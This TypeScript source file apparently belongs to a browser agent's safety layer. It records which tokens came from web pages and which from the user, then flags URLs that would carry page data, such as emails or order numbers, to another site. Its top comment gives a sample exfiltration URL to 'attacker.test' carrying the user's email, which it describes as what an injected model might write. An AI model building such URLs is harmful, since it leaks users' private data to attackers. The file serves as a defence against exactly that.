/**
 * What the task has seen, as tokens, so policy can tell when a URL would carry it to another site. The model may be
 * fooled into writing `https://attacker.test/?q=<the user's email>`; we cannot read the model's mind, but we can
 * notice that the URL holds data that arrived from a page and that the user never typed themselves.
 *
 * Page tokens: words of >= 6 characters (3 in Chinese, Japanese or Korean), emails, numbers of >= 4 digits (card endings, order ids, phone numbers).
 * User tokens: the user's own words (>= 3 characters), which are fine to send anywhere the user asked for.
 * Plain JSON arrays, capped, so the state persists with the task.
 */
export interface SeenData {
  page: string[];
  user: string[];
}

export type SeenSource = 'page' | 'user';

/** Oldest tokens drop first; a long task on big pages stays bounded (~20k short strings). */
export const MAX_SEEN_TOKENS = 20_000;

const EMAIL = /[\p{L}\p{N}._%+-]+@[\p{L}\p{N}.-]+\.[\p{L}]{2,}/gu;
const NUMBER = /\d(?:[\d \u00a0.-]*\d)?/g;
const WORD = /[\p{L}\p{N}_.@+-]+/gu;

export function emptySeen(): SeenData {
  return { page: [], user: [] };
}

/** Lower-cased tokens of `text`; `minWord` is the shortest plain word kept. */
export function tokens(text: string, minWord = 6): string[] {
  const out = new Set<string>();
  const lower = text.normalize('NFKC').toLowerCase();
  for (const m of lower.matchAll(EMAIL)) {
    out.add(m[0]);
    // Either half alone still identifies the person.
    for (const half of m[0].split('@')) if (half.length >= minWord) out.add(half);
  }
  for (const m of lower.matchAll(NUMBER)) {
    const digits = m[0].replace(/\D/g, '');
    if (digits.length >= 4) out.add(digits);
  }
  for (const m of lower.matchAll(WORD)) {
    const word = m[0].replace(/^[._+@-]+|[._+@-]+$/g, '');
    if (word.length >= minWord || (CJK_ANY.test(word) && [...word].length >= Math.min(minWord, CJK_WINDOW)))
      out.add(word);
    // "john.doe_42" is also "john", "doe": keep the parts so a re-spelled copy still matches.
    for (const part of word.split(/[._+@-]+/)) if (part.length >= minWord && part !== word) out.add(part);
  }
  return [...out];
}

/** Returns a new SeenData with the text's tokens added (duplicates skipped, oldest dropped past the cap). */
export function addSeen(seen: SeenData, text: string, source: SeenSource): SeenData {
  const list = source === 'page' ? seen.page : seen.user;
  const have = new Set(list);
  const fresh = tokens(text, source === 'page' ? 6 : 3).filter((t) => !have.has(t));
  if (fresh.length === 0) return seen;
  const merged = [...list, ...fresh];
  const capped = merged.length > MAX_SEEN_TOKENS ? merged.slice(merged.length - MAX_SEEN_TOKENS) : merged;
  return source === 'page' ? { page: capped, user: seen.user } : { page: seen.page, user: capped };
}

/** The parts of a URL that can carry data: path, query and fragment, decoded, plus base64-looking values decoded. */
export function urlPayload(url: string): string {
  let u: URL;
  try {
    u = new URL(url);
  } catch {
    return url;
  }
  const raw = `${u.pathname} ${u.search} ${u.hash}`;
  const pieces = raw
    .split(/[/?&#=;]+/)
    .filter(Boolean)
    .map(safeDecode);
  for (const piece of [...pieces]) {
    const b64 = tryBase64(piece);
    if (b64) pieces.push(b64);
  }
  return pieces.join(' ');
}

/**
 * Seen page data the text would carry: page tokens found in it that the user did not write themselves.
 * Exact token matches, plus long page tokens (>= 8) found inside it, which catches data glued to other text.
 */
export function carriedData(text: string, seen: SeenData): string[] {
  const user = new Set(seen.user);
  const page = new Set(seen.page);
  const lower = text.normalize('NFKC').toLowerCase();
  const found = new Set<string>();
  for (const t of tokens(lower, 6)) if (page.has(t) && !user.has(t)) found.add(t);
  for (const t of seen.page) if (t.length >= 8 && !user.has(t) && lower.includes(t)) found.add(t);
  for (const t of cjkCarried(lower, seen)) found.add(t);
  return [...found];
}

/** Chinese, Japanese and Korean are written without spaces: a page's sentence is one long token. */
const CJK = '[\\p{Script=Han}\\p{Script=Hiragana}\\p{Script=Katakana}\\p{Script=Hangul}]';
/** Three CJK characters hold about as much as six Latin letters (a full name, a street): the same bar as words. */
const CJK_WINDOW = 3;
const CJK_RUN = new RegExp(`${CJK}{${CJK_WINDOW},}`, 'gu');
const CJK_ANY = new RegExp(CJK, 'u');

/**
 * CJK page data inside the text: every 3-character window of its CJK runs that some page token contains and no
 * user token does (the user's own words, in any sentence they wrote, are theirs to send).
 */
function cjkCarried(lower: string, seen: SeenData): string[] {
  const out = new Set<string>();
  for (const run of lower.match(CJK_RUN) ?? []) {
    const chars = [...run];
    for (let i = 0; i + CJK_WINDOW <= chars.length; i++) {
      const window = chars.slice(i, i + CJK_WINDOW).join('');
      if (seen.page.some((t) => t.includes(window)) && !seen.user.some((t) => t.includes(window))) out.add(window);
    }
  }
  return [...out];
}

/**
 * Did the page, not the user, suggest this URL's site? True when the page text named the host and the user never
 * mentioned any label of it (the user saying "search on google" makes google.com theirs).
 */
export function siteFromPage(url: string, seen: SeenData): boolean {
  let host: string;
  try {
    host = new URL(url).hostname.toLowerCase();
  } catch {
    return true;
  }
  const bare = host.replace(/^www\./, '');
  const user = new Set(seen.user);
  const labels = bare
    .split('.')
    .slice(0, -1)
    .filter((l) => l.length >= 3);
  if (labels.some((l) => user.has(l)) || user.has(bare)) return false;
  const page = new Set(seen.page);
  return page.has(host) || page.has(bare) || seen.page.some((t) => t.length >= 6 && t.includes(bare));
}

function safeDecode(s: string): string {
  try {
    return decodeURIComponent(s.replace(/\+/g, ' '));
  } catch {
    return s;
  }
}

function tryBase64(s: string): string | undefined {
  if (s.length < 8 || !/^[A-Za-z0-9+/_-]+={0,2}$/.test(s)) return undefined;
  try {
    // atob, not Buffer: this runs in the service worker too.
    const binary = atob(s.replace(/-/g, '+').replace(/_/g, '/').replace(/=+$/, ''));
    const text = new TextDecoder().decode(Uint8Array.from(binary, (c) => c.charCodeAt(0)));
    // Only keep decodings that look like text; random ids decode to noise.
    return /^[\x20-\x7e\u00a0-\uffff]+$/.test(text) && !text.includes('\ufffd') ? text : undefined;
  } catch {
    return undefined;
  }
}
